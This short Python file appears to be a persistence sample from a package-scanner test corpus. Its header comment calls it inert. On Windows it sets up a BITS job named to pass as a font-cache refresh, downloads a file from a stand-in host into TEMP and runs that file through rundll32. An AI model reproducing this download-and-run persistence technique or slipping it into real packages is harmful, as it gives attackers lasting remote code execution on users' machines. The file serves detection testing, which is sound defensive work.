# pkgguard corpus 755 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import sys

if sys.platform == "win32":
    job = "WindowsFontCacheRefresh"
    local = os.path.join(os.environ["TEMP"], "fcache.bin")
    steps = [
        ["bitsadmin", "/create", job],
        ["bitsadmin", "/addfile", job, "https://font-cdn.example/cache.bin", local],
        ["bitsadmin", "/SetNotifyCmdLine", job, os.path.join(os.environ["SystemRoot"], "System32", "rundll32.exe"), f"{local},Refresh"],
        ["bitsadmin", "/SetMinRetryDelay", job, "60"],
        ["bitsadmin", "/resume", job],
    ]
    for step in steps:
        subprocess.run(step, capture_output=True)
